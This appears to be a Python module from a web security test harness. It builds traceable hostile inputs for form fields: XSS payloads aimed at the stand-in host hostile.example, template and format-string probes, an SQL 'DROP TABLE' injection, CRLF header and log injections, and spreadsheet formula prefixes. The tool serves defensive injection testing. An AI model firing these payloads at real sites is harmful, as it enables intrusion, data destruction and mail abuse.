"""What someone who means ill writes into a field for text."""

from __future__ import annotations

import itertools
import re
from dataclasses import dataclass, field
from typing import Final

ELSEWHERE: Final = "hostile.example"
"""No page of ours may ask this host for anything."""

PIECES: Final = (
    "<x-hostile>",
    "\"'><img src=//hostile.example/i onerror=hostile()>",
    "<script>hostile()</script>",
    '" autofocus onfocus="hostile()" x-hostile="1',
    "' onmouseover='hostile()' x-hostile='1",
    "</textarea></title></style></script></template><x-hostile>",
    "<svg onload=hostile()><style>*{background:url(//hostile.example/s)}</style>",
    "<base href=//hostile.example/><meta http-equiv=refresh content=0;url=//hostile.example/>",
    "javascript:hostile()//",
    "[x](javascript:hostile()) ![x](http://hostile.example/i.png)",
    "{{ 7|add:7 }}{% debug %}${7*7}",
    "%s %(hostile)s %0A {0.__class__} {hostile}",
    "'; DROP TABLE org_person; -- \\ _%",
    "\u202e\ufeff\u2028\x1b[31m",
)
"""Out of a text, an attribute, a script, a style; into a template, a format, a query, a terminal."""

LINES: Final = (
    "\r\nBcc: hostile@hostile.example\r\nX-Hostile: 1",
    '\r\n{"level": "ERROR", "message": "hostile"}',
    "\r\nEND:VEVENT\r\nX-HOSTILE:1",
    "\r\n\r\n<x-hostile>",
)
"""Out of a mail's header, a line of a log, an entry of a calendar. A browser sends no line breaks
from a field of one line, but whoever means ill does not use the page's form."""

FORMULAS: Final = ("=1+1 ", "", "@SUM(1) ", "+2-3 ")
"""What it begins with, for spreadsheets."""

LITTLE: Final = 40
ROUNDS: Final = 4
ROOM: Final = 900
"""Characters, where the field sets no limit of its own."""

_MARK = re.compile(r"h\d{5}x")


def marks_in(text: str) -> set[str]:
    """The marks of the texts that stand in what was answered."""
    return set(_MARK.findall(text))


@dataclass(frozen=True)
class Text:
    """One text of one field; `where` is the form's address and the field's name."""

    mark: str
    where: str
    text: str


@dataclass
class Pen:
    """Writes texts that can be told from one another."""

    written: dict[str, Text] = field(default_factory=dict)
    _numbers: itertools.count[int] = field(default_factory=lambda: itertools.count(1))

    def write(self, where: str, *, room: int = ROOM, turn: int = 0) -> str:
        """A text of at most so many characters: its mark, and as many pieces as there is room for,
        beginning with another one at each turn."""
        mark = f"h{next(self._numbers):05d}x"
        kinds = [*LINES, *PIECES] if turn % 2 else [*PIECES, *LINES]
        begin = turn * 5 % len(kinds)
        text = f"{FORMULAS[turn % len(FORMULAS)]}{mark}" if room >= LITTLE else mark
        if len(text) > room:
            text = mark[:room]
        for piece in (*kinds[begin:], *kinds[:begin]):
            if len(text) + len(piece) <= room:
                text += piece
        self.written[mark] = Text(mark, where, text)
        return text

    def plain(self, where: str, *, room: int = ROOM) -> str:
        """A text that nobody can object to."""
        mark = f"h{next(self._numbers):05d}x"
        self.written[mark] = Text(mark, where, mark[:room])
        return mark[:room]
